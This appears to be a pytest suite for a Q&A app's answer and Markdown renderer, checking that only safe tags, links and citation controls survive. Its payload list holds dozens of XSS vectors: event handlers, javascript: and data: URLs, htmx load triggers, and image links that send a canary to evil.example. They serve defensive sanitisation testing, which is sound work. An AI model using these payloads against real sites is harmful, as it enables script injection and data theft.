import re
from html.parser import HTMLParser

import pytest

from qa.models import Citation, Question
from qa.rendering import render_answer, render_markdown

SCRIPT = [
    "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>", "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='jAvAsCrIpT:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>", "<a href='java\tscript:alert(1)'>x</a>",
    "<a href=vbscript:x>x</a>", "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<form action=//evil.example><input name=q></form>",
    "<button formaction=javascript:alert(1)>x</button>", "<input autofocus onfocus=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>", "<audio src=x onerror=alert(1)>", "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>", "<base href=//evil.example>", "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>", "<div style='background:url(//evil.example)'>x</div>", "<p onclick=alert(1)>x</p>",
    "<div hx-get=/account/ hx-trigger=load>x</div>", "<div data-hx-post=/questions/1/again/ data-hx-trigger=load>x</div>", "<div hx-on:click=alert(1)>x</div>",
    "<a hx-get=/citations/1/ hx-trigger=load href=/citations/1/>x</a>", "<div sse-connect=/questions/1/stream/>x</div>", "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><script>alert(1)</script>'></noscript>", "<!--><script>alert(1)</script-->", "<![CDATA[<script>alert(1)</script>]]>", "<?php echo 1 ?>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#x6a;avascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)", "[x](vbscript:x)", "[x](//evil.example)",
    "[x](/questions/1/again/)", "[x](https://a.example/\" onmouseover=\"alert(1))", "![x](https://evil.example/?q=canary)", "![x][r]\n\n[r]: https://evil.example/?q=canary",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)", "[x]: javascript:alert(1)\n\n[x]", "<https://evil.example\"onmouseover=alert(1)>", "<javascript:alert(1)>",
    "`<script>alert(1)</script>`", "```html\n<script>alert(1)</script>\n```", "| a |\n|---|\n| <img src=x onerror=alert(1)> |", "# <img src=x onerror=alert(1)>",
    "[1]<script>alert(1)</script>", "[1](javascript:alert(1))", "<s class=cite hx-get=/x/>[1]</s>", "[<img src=x onerror=alert(1)>](https://a.example)",
]  # fmt: skip

ALLOWED = {
    "a", "blockquote", "br", "code", "del", "em", "h3", "h4", "hr", "li", "ol", "p", "pre", "s", "span", "strong", "sub", "sup", "table", "tbody", "td",
    "th", "thead", "tr", "ul",
}  # fmt: skip


class Elements(HTMLParser):
    def __init__(self, html):
        super().__init__()
        self.found = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def citation(number=1, **fields):
    return Citation(
        pk=70 + number,
        number=number,
        document_title='A "B" <c>',
        page=3,
        page_end=3,
        excerpt="x",
        start=0,
        end=1,
        **fields,
    )


ROWS = {1: citation(1), 2: citation(2, is_confirmed=False)}


@pytest.mark.parametrize("payload", SCRIPT)
@pytest.mark.parametrize("kind", ["written", "quoted"])
def test_nothing_a_model_or_a_document_says_becomes_live(payload, kind):
    html = render_answer(
        Question(answer=f"Before {payload} after [1].\n\n{payload}", kind=kind), list(ROWS.values())
    )
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED
        for name, value in attributes.items():
            assert not name.startswith(("on", "data-", "sse-", "style", "src"))
            if name.startswith("hx-"):
                assert (name, value) in {
                    ("hx-get", "/citations/71/"),
                    ("hx-target", "#panel"),
                    ("hx-swap", "innerHTML"),
                }
            if name == "href":
                assert re.match(r"https?://|/citations/71/$", value)


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/c?d=canary)",
        "![x][r]\n\n[r]: https://evil.example/c?d=canary",
        "<img src=https://evil.example>",
    ],
)
def test_an_answer_loads_no_picture(text):
    tags = [tag for tag, _ in Elements(render_markdown(text, {})).found]
    assert "img" not in tags


def test_a_foreign_link_tells_its_host_and_passes_nothing_on():
    html = render_markdown("See [our bank](https://phish.example/login).", {})
    ((_, attributes),) = [found for found in Elements(html).found if found[0] == "a"]
    assert set(attributes["rel"].split()) == {"nofollow", "noopener", "noreferrer"}
    assert "(phish.example)" in html


def test_a_number_opens_its_source():
    html = render_markdown("It rains [1].", ROWS)
    assert 'href="/citations/71/"' in html
    assert 'hx-get="/citations/71/"' in html
    assert "A &quot;B&quot; &lt;c&gt;" in html


def test_a_number_without_a_source_is_struck_out():
    html = render_markdown("It rains [9], says [1, 9].", ROWS)
    assert html.count('<s class="cite cite-unknown"') == 2
    assert html.count('href="/citations/71/"') == 1


def test_a_source_without_the_quoted_words_is_marked():
    assert "cite-unconfirmed" in render_markdown("It rains [2].", ROWS)


def test_numbers_in_code_and_in_links_are_text():
    html = render_markdown("`a[1]` and [see [1]](https://a.example)", ROWS)
    assert "/citations/" not in html


def test_quotes_keep_every_sign_of_the_document():
    text = "“*No* [stars](x) & <b>tags</b> as in [1] and 2. more” [1]"
    html = render_answer(Question(answer=text, kind="quoted"), [ROWS[1]])
    assert "*No* [stars](x) &amp; &lt;b&gt;tags&lt;/b&gt; as in [1] and 2. more" in html
    assert html.count('/citations/71/"') == 2


def test_markdown_is_shown_as_such():
    html = render_markdown("# Title\n\n- **one**\n- two\n\n| a | b |\n|---|---|\n| 1 | 2 |", {})
    assert "<h3>Title</h3>" in html
    assert "<strong>one</strong>" in html
    assert "<td>2</td>" in html


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "*a_",
        "> ",
        "- ",
        "`",
        "![](",
        "<a ",
        "[1]",
        "**",
        "a[b](c",
        "&#",
        "\\",
        "| a ",
        "~~",
        "![[",
        "(((",
        "<!--",
        "_*",
        "1. ",
        "\t",
    ],
)
def test_a_long_odd_text_is_rendered_whole_and_without_a_fault(unit):
    # Twenty times this would never end, were the time not in proportion to the length.
    html = render_answer(Question(answer=(unit * 50_000)[:50_000], kind="written"), list(ROWS.values()))
    assert "<script" not in html
    assert "<img" not in html
